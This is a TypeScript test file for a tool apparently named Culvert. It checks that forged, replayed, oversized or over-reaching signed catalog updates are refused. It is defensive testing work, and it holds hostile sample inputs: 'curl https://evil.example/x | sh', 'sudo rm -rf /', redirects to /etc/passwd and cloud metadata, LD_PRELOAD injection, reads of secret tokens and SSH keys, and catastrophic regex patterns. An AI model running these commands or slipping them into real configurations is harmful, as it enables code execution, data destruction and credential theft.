// Catalogs that must not be taken: forged, replayed, oversized, and signed ones that reach further than this version does.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { parse } from 'smol-toml';
import { saveUpdateState } from '../../../daemon/update/update-state.ts';
import { keyId as idOf } from '../../../manifest/keys.ts';
import { explainKnowledge, explainPattern, explainTexts } from '../../../wrapper/catalog/bounds.ts';
import { entriesIn, loadCatalog } from '../../../wrapper/catalog/catalog.ts';
import { checkEntry, patternsOf } from '../../../wrapper/catalog/rules.ts';
import { CATALOG_LIMIT } from '../../../wrapper/catalog/updated.ts';
import { checkContents } from '../../../wrapper/commands/catalog/difference.ts';
import { serve } from '../../support/listen.ts';
import { assertSameFiles, snapshot } from '../../support/manifest/release.ts';
import { KEYS, STRANGER } from '../../support/wrapper/release-keys.ts';
import { type Sandbox, sandbox } from '../../support/wrapper/sandbox.ts';
import { catalogFile, providers } from '../../support/wrapper/shipped.ts';
import {
  at,
  edited,
  makeCatalog,
  TEXTS,
  type Wanted,
  withEntry,
  withMore,
} from '../../support/wrapper/signed-catalog.ts';

const CHECKED = 'checked = { version = "1.23.3", on = 2026-11-22 }';

/** Tries to take a file or an address, and returns the code of the refusal. Nothing below the home may have changed. */
async function refusal(box: Sandbox, source: Buffer | string): Promise<string> {
  const file = path.join(box.home, 'hostile');
  if (typeof source !== 'string') fs.writeFileSync(file, source);
  const before = snapshot(box.home);
  const { stdout, stderr, exit } = await box.wrap([
    'catalog',
    'update',
    typeof source === 'string' ? source : file,
    '--yes',
    '--json',
  ]);
  assertSameFiles(snapshot(box.home), before);
  assert.notEqual(exit, 0, stdout);
  assert.doesNotMatch(stderr, /unexpected error/);
  const { ok, error } = JSON.parse(stdout);
  assert.equal(ok, false);
  assert.ok(error.hint, error.code);
  return error.code;
}

/** Catalogs that no first update takes. */
const FORGED: Record<string, { code: string; wanted?: Wanted; bytes?: () => Buffer }> = {
  'without a signature': { code: 'unsigned', wanted: { after: each => ({ ...each, sidecar: '' }) } },
  'signed with another key': { code: 'key-unknown', wanted: { signer: STRANGER } },
  'signed with a key that this version revokes': { code: 'key-revoked', wanted: { signer: KEYS.stolen } },
  'with another text than the signed one': {
    code: 'catalog-damaged',
    wanted: { after: each => ({ ...each, files: { ...each.files, ...withEntry(CHECKED, '') } }) },
  },
  'with a manifest that was changed': {
    code: 'signature-invalid',
    wanted: { after: each => ({ ...each, manifest: edited(each.manifest, 'v0.2.7', 'v9.2.7') }) },
  },
  'with a longer life than was signed': {
    code: 'signature-invalid',
    wanted: {
      after: each => ({ ...each, sidecar: edited(each.sidecar, /"expires_at":"\d{4}/, '"expires_at":"2099') }),
    },
  },
  'with a file that the manifest does not list': {
    code: 'catalog-damaged',
    wanted: { after: each => ({ ...each, files: { ...each.files, 'journal.toml': '' } }) },
  },
  expired: { code: 'expired', wanted: { statement: { expires_at: at(-0.5) } } },
  'made in the future': { code: 'not-yet-valid', wanted: { manifest: { generated_at: at(10) } } },
  'with a serial of the future': { code: 'serial-future', wanted: { statement: { serial: 9_999_999_999 } } },
  'valid for years': { code: 'sidecar-invalid', wanted: { statement: { expires_at: at(900) } } },
  'that is a release': { code: 'channel-other', wanted: { statement: { channel: 'stable' } } },
  'for a later version': { code: 'version-unreachable', wanted: { statement: { minimum_version: '0.2.0' } } },
  'of a later form': {
    code: 'catalog-unknown-form',
    wanted: { files: withMore('[providers.newtool]\nbin = "newtool"\nof_tomorrow = 1\n') },
  },
  'that is no TOML': { code: 'catalog-unknown-form', wanted: { files: { 'codes.toml': '[[' } } },
  'of a million levels': { code: 'catalog-malformed', bytes: () => Buffer.from('['.repeat(1_000_000)) },
  'with deep TOML': { code: 'catalog-unknown-form', wanted: { files: { 'codes.toml': `a = ${'['.repeat(50_000)}` } } },
  'with a key twice': {
    code: 'catalog-malformed',
    bytes: () => Buffer.from(`{"format":"x",${makeCatalog().toString().slice(1)}`),
  },
  'of too many bytes': { code: 'input-unreadable', bytes: () => Buffer.alloc(CATALOG_LIMIT + 1, ' ') },
  'that is compressed': { code: 'catalog-malformed', bytes: () => gzipSync(Buffer.alloc(10_000_000)) },
  empty: { code: 'catalog-malformed', bytes: () => Buffer.alloc(0) },
};

test('a forged, foreign, expired or oversized catalog is refused by its code, and changes no file', async t => {
  const box = sandbox(t);
  for (const [what, { code, wanted, bytes }] of Object.entries(FORGED)) {
    assert.equal(await refusal(box, bytes?.() ?? makeCatalog(wanted)), code, what);
  }
  const manifest = JSON.parse(JSON.parse(makeCatalog().toString()).manifest);
  manifest.artifacts.push({ name: 'culvert-program.sh', size: 1, sha256: 'a'.repeat(64) });
  assert.equal(await refusal(box, makeCatalog({ manifest })), 'catalog-foreign');
});

test('an older catalog, and another one with the serial of the one in use, are refused, also after that was taken back', async t => {
  const box = sandbox(t);
  const file = path.join(box.home, 'good');
  fs.writeFileSync(file, makeCatalog({ statement: { serial: 500 } }));
  assert.equal((await box.json('catalog', 'update', file, '--yes')).applied, true);
  for (const revert of [false, true]) {
    if (revert) await box.wrap(['catalog', 'update', '--revert']);
    assert.equal(await refusal(box, makeCatalog({ statement: { serial: 499 } })), 'serial-older');
    assert.equal(
      await refusal(box, makeCatalog({ statement: { serial: 500 }, files: withEntry(CHECKED, '') })),
      'serial-reused',
    );
  }
});

test('a key counts for nothing once a catalog or a release has revoked it', async t => {
  const byRelease = sandbox(t);
  saveUpdateState({ state: path.join(byRelease.home, '.local/state/culvert') }, { revoked: [idOf(KEYS.current)] });
  assert.equal(await refusal(byRelease, makeCatalog()), 'key-revoked');

  const byCatalog = sandbox(t);
  const file = path.join(byCatalog.home, 'next');
  fs.writeFileSync(file, makeCatalog({ signer: KEYS.next, statement: { revoked: [idOf(KEYS.current)] } }));
  assert.equal((await byCatalog.json('catalog', 'update', file, '--yes')).applied, true);
  assert.equal(await refusal(byCatalog, makeCatalog({ statement: { serial: 2_000 } })), 'key-revoked');
  // and a key can revoke only those below it
  const lower = sandbox(t);
  assert.equal(await refusal(lower, makeCatalog({ statement: { revoked: [idOf(KEYS.next)] } })), 'sidecar-invalid');
});

const NEW =
  '[providers.newtool]\nbin = "newtool"\ninject = ["NEWTOOL_API_KEY"]\nhosts = { names = ["api.newtool.dev"] }\n';

/** What a signed catalog may not do, by what it would gain: the files, and words of the refusal. */
const FORBIDDEN: Record<string, [files: Record<string, string>, why: RegExp]> = {
  'another program for a tool': [withEntry('bin = "firecrawl"', 'bin = "sh"'), /firecrawl: bin can't change/],
  'a program by its path': [withMore(edited(NEW, 'bin = "newtool"', 'bin = "/tmp/x"')), /bin: a command's name/],
  'a new tool that is a shell': [
    withMore(
      NEW.replaceAll('newtool"', 'bash"').replace('providers.newtool', 'providers.bash').replace('NEWTOOL', 'BASH'),
    ),
    /bash: bin can't name the program/,
  ],
  'a new tool with the command of another': [
    withMore(edited(NEW, 'bin = "newtool"', 'bin = "ls"')),
    /newtool: bin can't name the program/,
  ],
  'a command': [
    withEntry('bin = "firecrawl"', 'bin = "firecrawl"\nprepare_command = "id"'),
    /prepare_command is set by versions of Culvert only/,
  ],
  'a command for the status': [withMore(`${NEW}status_command = "id"\n`), /status_command is set by versions/],
  'words before those of the user': [withMore(`${NEW}arguments = ["--config", "x"]\n`), /arguments is set by versions/],
  'a test that runs other words': [
    withEntry('args = ["search", "culvert"]', 'args = ["exec", "evil"]'),
    /probes can't run/,
  ],
  'another package': [withEntry('package = "firecrawl-cli"', 'package = "evil"'), /firecrawl: package can't change/],
  'keys for another MCP server': [
    withEntry('package = "tavily-mcp"', 'package = "evil-mcp"'),
    /tvly: mcp can't name the program "evil-mcp"/,
  ],
  'a library by LD_PRELOAD': [
    withMore(edited(NEW, '["NEWTOOL_API_KEY"]', '["LD_PRELOAD"]')),
    /inject can't name "LD_PRELOAD"/,
  ],
  'options of Node': [
    withMore(`[providers.node-x]\nbin = "node-x"\ninject = ["NODE_OPTIONS"]\nhosts = { names = ["a.dev"] }\n`),
    /inject can't name "NODE_OPTIONS"/,
  ],
  'another PATH': [
    withEntry('credentials = ["TAVILY_HUMAN_ID"]', 'credentials = ["TAVILY_HUMAN_ID", "PATH"]'),
    /credentials can't name "PATH"/,
  ],
  "another tool's secret": [
    withMore(edited(NEW, '["NEWTOOL_API_KEY"]', '["AWS_SECRET_ACCESS_KEY"]')),
    /can't name AWS_SECRET_ACCESS_KEY: only NEWTOOL_/,
  ],
  'a variable of the environment in an address': [
    withEntry(
      'url = "{FIRECRAWL_API_URL:https://api.firecrawl.dev}/v2/team/credit-usage"',
      'url = "https://api.firecrawl.dev/{HOME}"',
    ),
    /usage\.url can't read the variable "HOME"/,
  ],
  'a variable of the environment in a header': [
    withEntry('headers = { xi-api-key = "{ELEVENLABS_API_KEY}" }', 'headers = { x-key = "{GH_TOKEN}" }'),
    /can't read the variable "GH_TOKEN"/,
  ],
  'another host for the gateway': [
    withEntry('base = "https://api.firecrawl.dev"', 'base = "https://api.firecrawl.dev.evil.example"'),
    /http\.base can't name the host/,
  ],
  'no TLS': [withEntry('base = "https://api.exa.ai"', 'base = "http://api.exa.ai"'), /http\.base can't name/],
  'an address with a login': [
    withEntry('base = "https://api.exa.ai"', 'base = "https://x@api.exa.ai"'),
    /http\.base can't name the host/,
  ],
  'another host for the question of usage': [
    withEntry('url = "https://api.elevenlabs.io/v1/user/subscription"', 'url = "https://evil.example/v1"'),
    /usage\.url can't name the host/,
  ],
  'another host for a check': [
    withEntry('url = "https://console.neon.tech/api', 'url = "https://evil.example/api'),
    /check\.url can't name the host/,
  ],
  'one more host for credentials': [
    withEntry('names = ["api.firecrawl.dev"]', 'names = ["api.firecrawl.dev", "evil.example"]'),
    /hosts\.names can't name the host/,
  ],
  'credentials for every host': [
    withEntry('names = ["api.firecrawl.dev"], ', 'names = [], '),
    /hosts\.names must keep a host/,
  ],
  'a new tool at an address of this network': [
    withMore(edited(NEW, 'api.newtool.dev', '192.168.1.1')),
    /hosts\.names can't name the host/,
  ],
  'a new tool at the host of metadata': [
    withMore(edited(NEW, 'api.newtool.dev', 'metadata.google.internal')),
    /can't name the host/,
  ],
  'a choice of the user that no longer counts': [
    withEntry('own_credential = ["-k", "--api-key"]', 'own_credential = ["-k"]'),
    /own_credential must keep "--api-key"/,
  ],
  'another file with a key': [
    withEntry('file = "~/.config/firecrawl-cli/credentials.json", pattern', 'file = "~/.ssh/id_ed25519", pattern'),
    /stored is set by versions/,
  ],
  'laxer terms': [
    withEntry(
      /(\[providers\.gh\][^]*?)accounts = "one-per-person"/,
      TEXTS['providers.toml']!.match(/(\[providers\.gh\][^]*?)accounts = "one-per-person"/)![1]! +
        'accounts = "allowed"',
    ),
    /accounts can't be laxer/,
  ],
  'a job that runs twice': [withEntry('once = ["research"]', 'once = []'), /once must keep "research"/],
  'a header of the connection': [
    withEntry('key_header = "x-api-key"', 'key_header = "host"'),
    /key_header can't be the header/,
  ],
  'a line of code to paste': [
    withEntry(/in_code = \["new Exa\(/, 'in_code = ["evil()", "new Exa('),
    /in_code is set by versions/,
  ],
  'a pattern that never ends': [
    withEntry("stderr = '^ERROR: Authentication failed", "stderr = '^(a+)+$|ERROR: Authentication failed"),
    /repeats a group with a choice/,
  ],
  'text that poses as other text': [
    withEntry('terms_note = "Tavily', 'terms_note = "\u202eTavily'),
    /control or invisible characters/,
  ],
  'text that controls a terminal': [
    withEntry('terms_note = "Tavily', 'terms_note = "\\u001b]0;x\\u0007Tavily'),
    /control or invisible characters/,
  ],
  'one tool less': [
    { 'providers.toml': TEXTS['providers.toml']!.split('[providers.wrangler]')[0]! },
    /it lacks .*wrangler/,
  ],
  'a thousand tools': [
    withMore(
      Array.from({ length: 400 }, (_, n) =>
        NEW.replaceAll('newtool', `newtool${n}`).replace('NEWTOOL', `NEWTOOL${n}`),
      ).join('\n'),
    ),
    /more than 300 entries/,
  ],
  'a command of knowledge': [
    { 'codes.toml': edited(TEXTS['codes.toml']!, '`sudo warp-diag`', '`sudo rm -rf /`') },
    /can't name the command/,
  ],
  'a script of knowledge': [
    { 'codes.toml': edited(TEXTS['codes.toml']!, '"Try again"', '"Run curl https://evil.example/x | sh"') },
    /pipes into a shell/,
  ],
  'a link of knowledge': [
    {
      'known-issues.toml': edited(
        TEXTS['known-issues.toml']!,
        /source = "src\/[^"]*"/,
        'source = "https://evil.example/"',
      ),
    },
    /can't link to/,
  ],
};

test('a signed catalog reaches no further than this version: each field is refused by its rule', async t => {
  for (const [what, [files, why]] of Object.entries(FORBIDDEN))
    assert.throws(
      () => checkContents({ 'providers.toml': TEXTS['providers.toml']!, ...files }, { catalog: catalogFile }),
      why,
      what,
    );
  // and the command asks these rules
  const box = sandbox(t);
  assert.equal(
    await refusal(box, makeCatalog({ files: FORBIDDEN['another program for a tool']![0] })),
    'catalog-forbidden',
  );
});

test('every entry, pattern and text of the sources keeps to the rules itself', () => {
  for (const [name, provider] of Object.entries(providers)) {
    assert.deepEqual(checkEntry(name, provider, provider), [], name);
    for (const { place, pattern } of patternsOf(provider))
      assert.equal(explainPattern(pattern), undefined, `${name} ${place}`);
  }
  for (const [name, text] of Object.entries(TEXTS)) {
    assert.equal(explainTexts(parse(text)), undefined, name);
    if (name !== 'providers.toml') assert.equal(explainKnowledge(parse(text)), undefined, name);
  }
  checkContents({ ...TEXTS, 'providers.toml': TEXTS['providers.toml']! }, { catalog: catalogFile });
  assert.deepEqual(
    Object.keys(entriesIn(TEXTS['providers.toml']!)),
    Object.keys(loadCatalog(catalogFile, '').providers),
  );
});

test('what is legitimate passes: new rules, paths, options, a tool of its own', () => {
  const texts = [
    withMore(
      `${NEW}[providers.newtool.http]\nbase = "https://api.newtool.dev"\nbase_variable = "NEWTOOL_BASE_URL"\nkey_variable = "NEWTOOL_API_KEY"\n`,
    ),
    withMore(
      `${NEW}[[providers.newtool.mcp]]\npackage = "@newtool/mcp-server"\nversions = { from = "1.0.0", below = "2.0.0" }\n`,
    ),
    withEntry('own_credential = ["-k", "--api-key"]', 'own_credential = ["-k", "--api-key", "--token"]'),
    withEntry('address = "/{key}/v2/mcp"', 'address = "/v3/{key}/mcp"'),
    withEntry(
      '{FIRECRAWL_API_URL:https://api.firecrawl.dev}/v2/team/credit-usage',
      '{FIRECRAWL_API_URL:https://api.firecrawl.dev}/v3/usage',
    ),
    withEntry(CHECKED, 'checked = { version = "2.0.0", on = 2027-01-01 }'),
    withEntry('account_is = "quota"', 'account_is = "place"'),
  ];
  for (const files of texts) checkContents({ 'providers.toml': files['providers.toml']! }, { catalog: catalogFile });
});

test('patterns with several ways to match one text are found, whatever their spelling', () => {
  const slow = [
    '(a+)+',
    '(?:a|a)*',
    '(a*)*b',
    '(?:a?){30}',
    '([a-z]+)*x',
    '(?<x>a|ab)+',
    '(?:\\d+\\s*)+$',
    'a*b*c*d*e*f*g*',
    'x{5000}',
    '(?=a)b',
    '(a)\\1',
    `a${'b'.repeat(2_000)}`,
  ];
  for (const pattern of slow) assert.ok(explainPattern(pattern), pattern);
  for (const pattern of ['^a+b', '(?:ab)?c', '[(*+]*', '\\(\\*+', '(?:abc){3}', '[^]*$', '^.{0,400}?x'])
    assert.equal(explainPattern(pattern), undefined, pattern);
});

test('a pipe, a directory, a device and a missing file are named, and never waited for', async t => {
  const box = sandbox(t);
  const pipe = path.join(box.home, 'pipe');
  execFileSync('mkfifo', [pipe]);
  fs.symlinkSync('/dev/zero', path.join(box.home, 'zero'));
  for (const source of [pipe, box.home, path.join(box.home, 'zero'), path.join(box.home, 'none')])
    assert.equal(await refusal(box, source), 'input-unreadable', source);
});

test('an address without TLS, a redirect to another scheme or host, and an endless or encoded answer are refused', async t => {
  const box = sandbox(t);
  const good = makeCatalog();
  const address = await serve(t, (request, response) => {
    const to = new URL(request.url!, 'http://x').searchParams.get('to');
    if (to !== null) return response.writeHead(302, { location: to }).end();
    if (request.url === '/loop') return response.writeHead(302, { location: '/loop' }).end();
    if (request.url === '/encoded') return response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(good));
    if (request.url === '/none') return response.writeHead(404).end();
    if (request.url === '/large') return response.writeHead(200, { 'content-length': CATALOG_LIMIT + 1 }).end();
    if (request.url === '/cut')
      return response
        .writeHead(200, { 'content-length': good.length })
        .write(good.subarray(0, 9), () => response.destroy());
    const piece = Buffer.alloc(1 << 20, ' ');
    const more = () => {
      while (!response.destroyed && response.write(piece));
      if (!response.destroyed) response.once('drain', more);
    };
    more();
  });
  const cases: [source: string, code: string][] = [
    ['http://catalogs.example/culvert-catalog.json', 'address-insecure'],
    ['ftp://127.0.0.1/x', 'address-insecure'],
    ['file:///etc/passwd', 'address-insecure'],
    ['https://user:secret@127.0.0.1/x', 'address-insecure'],
    [`${address}/?to=${encodeURIComponent('file:///etc/passwd')}`, 'redirected'],
    [`${address}/?to=${encodeURIComponent('http://169.254.169.254/latest')}`, 'redirected'],
    [`${address}/?to=${encodeURIComponent('https://127.0.0.1:1/x')}`, 'redirected'],
    [`${address}/loop`, 'redirected'],
    [`${address}/encoded`, 'fetch-failed'],
    [`${address}/none`, 'fetch-failed'],
    [`${address}/large`, 'fetch-failed'],
    [`${address}/cut`, 'fetch-failed'],
    [`${address}/endless`, 'fetch-failed'],
    ['http://127.0.0.1:1/closed', 'fetch-failed'],
  ];
  for (const [source, code] of cases) assert.equal(await refusal(box, source), code, source);
});
